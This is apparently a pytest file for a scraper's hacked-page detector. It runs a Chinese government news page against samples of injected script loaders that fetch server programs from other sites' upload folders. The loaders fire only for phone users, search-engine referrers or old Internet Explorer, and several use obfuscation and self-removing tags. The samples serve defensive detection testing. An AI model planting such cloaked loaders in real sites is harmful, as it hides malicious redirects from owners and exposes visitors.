"""Code a hacked site's server program answers, loaded for the visitors a script picks (v48 §1 B2,
§7.4): a loader that appends, for phones or old Internet Explorer only, a <script> whose address is
a program (.php, .asp, .jsp, .cgi) in another site's folders, from a host the page names nowhere
else (rc48b-010's ``visitorTracker``: …/includes/PEAR/temp_data/collector.php?mob=1). Each form is
spelt three ways here, as other kits write it: a device test (user agent, screen width, touch), a
referrer test, an old-IE test or an IE conditional comment; and a program in a CMS's uploads folder.
A vendor's by-device file on its CDN, a program of a site the page links, the site's own program,
an html5shiv in a conditional comment and a program every visitor loads stay clean (the last is no
pick: a limit, read by no reader here)."""
from __future__ import annotations

import pytest

from scraper.clean import clean_page

URL = "http://www.qxzf.gov.cn/xwzx/2023/1016/123.html"

BODY = ("<p>10月9日,街道社区在农贸市场开展全民行动志愿服务活动,向居民派发垃圾分类投放指南和倡议书。</p>"
        "<p>社区志愿者详细讲解可回收物、厨余垃圾、有害垃圾和其他垃圾所对应的垃圾桶颜色和各类垃圾的代表物品。</p>"
        "<p>本次活动共发放垃圾分类环保袋85个、宣传页100份,增强了社区居民对垃圾分类知识的了解。</p>")


def _page(head: str = "", tail: str = "", links: str = "") -> bytes:
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>社区开展垃圾分类志愿服务活动-政务动态</title>'
            f'{head}</head><body><div class="top"><a href="/">政务动态</a>{links}</div>'
            '<div class="main"><h1>社区开展垃圾分类志愿服务活动</h1><div class="attr">发布时间:2023-10-16 来源:街道办事处</div>'
            f'<div class="artbody">{BODY}</div></div><div class="foot"><p>版权所有 政务动态</p></div>{tail}</body></html>').encode()


def _create(src: str) -> str:
    return f'var s=document.createElement("script");s.src="{src}";document.getElementsByTagName("head")[0].appendChild(s);'


def _findings(raw: bytes) -> tuple[bool, str]:
    a = clean_page(raw, url=URL)
    return a.hijacked, " ".join(f.evidence for f in a.findings if f.kind == "spam_script")


PICKED = {
    # by device: a user-agent test, the screen's width, touch (the loader removing its own tag)
    "user agent": ('<script>if(/android|iphone|ipod|mobile/i.test(navigator.userAgent)){'
                   + _create("http://greenvalleyfarm.com/includes/cache/stats.php?m=1") + "}</script>", "greenvalleyfarm.com"),
    "screen width": ("<script>if(screen.width<800){document.write('<script src=\"//blueharbor-dental.org/modules/tmp/c.asp\">"
                     "</scr'+'ipt>');}</script>", "blueharbor-dental.org"),
    "touch": ('<script>(function(){try{if("ontouchstart" in window||navigator.maxTouchPoints>0){var t=document.createElement'
              '("script");t.async=true;t.src="http://oldmillcarpentry.net/lib/temp/session.jsp?r="+Math.random();var f=document.'
              'getElementsByTagName("script")[0];f.parentNode.insertBefore(t,f);t.parentNode.removeChild(t);}}catch(e){}})();'
              "</script>", "oldmillcarpentry.net"),
    # by referrer
    "referrer, created": ('<script>if(document.referrer.indexOf("baidu.")>-1||document.referrer.indexOf("google.")>-1){'
                          + _create("http://sunnyside-kennels.com/wp-content/uploads/2021/03/wp-stat.php") + "}</script>",
                          "sunnyside-kennels.com"),
    "referrer, written": ('<script>var r=document.referrer;if(/baidu|sogou|so\\.com|bing/.test(r)){document.write("<script '
                          "src='http://lakeshore-bakery.com/cache/j.aspx'></scr\"+\"ipt>\")}</script>", "lakeshore-bakery.com"),
    "referrer, joined": ('<script>if(document.referrer&&document.referrer.indexOf(location.hostname)<0){var e=document.'
                         'createElement("script");e.src=["//","mapleridge-auto.com","/admin/inc/","c.php"].join("");'
                         "document.body.appendChild(e)}</script>", "mapleridge-auto.com"),
    # old Internet Explorer, tested in code
    "old IE": ('<script>if(navigator.userAgent.indexOf("MSIE ")>0||navigator.userAgent.indexOf("Trident/")>0){'
               + _create("http://hillcrest-pta.org/wp-content/uploads/cache/ie.php") + "}</script>", "hillcrest-pta.org"),
    # a program in a CMS's uploads folder, for small screens
    "uploads, by width": ("<script>if(window.innerWidth<768){"
                          + _create("https://pinecrest-dental.com/wp-content/uploads/2022/11/style.php") + "}</script>",
                          "pinecrest-dental.com"),
}


@pytest.mark.parametrize("name", sorted(PICKED))
def test_a_server_program_loaded_for_picked_visitors_is_spam(name):
    script, host = PICKED[name]
    hijacked, evidence = _findings(_page(tail=script))
    assert hijacked and host in evidence
    assert "垃圾分类投放指南" in clean_page(_page(tail=script), url=URL).text


CONDITIONAL = {
    "if IE, in head": ('<!--[if IE]><script src="http://brightpath-tutors.com/includes/js/loader.php"></script><![endif]-->',
                       "", "brightpath-tutors.com"),
    "lt IE 9, at body end": ("", '<!--[if lt IE 9]><script type="text/javascript" src="//riverbend-church.org/wp-content/'
                             'uploads/2019/07/x.aspx?id=7"></script><![endif]-->', "riverbend-church.org"),
    "IE 8, single quotes": ("", "<!--[if IE 8]><script src='http://copperkettle-inn.net/tmp/sess/c.cgi'></script><![endif]-->",
                            "copperkettle-inn.net"),
}


@pytest.mark.parametrize("name", sorted(CONDITIONAL))
def test_a_server_program_in_an_ie_conditional_comment_is_spam(name):
    head, tail, host = CONDITIONAL[name]
    hijacked, evidence = _findings(_page(head=head, tail=tail))
    assert hijacked and host in evidence


def test_a_vendors_file_loaded_for_phones_is_clean():
    script = "<script>if(/android|iphone/i.test(navigator.userAgent)){" + _create("https://cdn.example-sdk.com/m/sdk.js") + "}</script>"
    assert not clean_page(_page(tail=script), url=URL).hijacked


def test_a_program_of_a_site_the_page_links_is_clean():
    script, _ = PICKED["user agent"]
    assert not clean_page(_page(tail=script, links='<a href="http://greenvalleyfarm.com/">合作单位</a>'), url=URL).hijacked


def test_the_sites_own_program_for_phones_is_clean():
    script = "<script>if(/android|iphone/i.test(navigator.userAgent)){" + _create("/includes/mobile.php") + "}</script>"
    assert not clean_page(_page(tail=script), url=URL).hijacked


def test_a_shiv_in_a_conditional_comment_is_clean():
    head = '<!--[if lt IE 9]><script src="https://oss.maxcdn.com/html5shiv/3.7.2/html5shiv.min.js"></script><![endif]-->'
    assert not clean_page(_page(head=head), url=URL).hijacked


def test_a_program_every_visitor_loads_is_not_read_as_picked():
    script = "<script>" + _create("http://greenvalleyfarm.com/includes/cache/stats.php?m=1") + "</script>"
    assert not clean_page(_page(tail=script), url=URL).hijacked
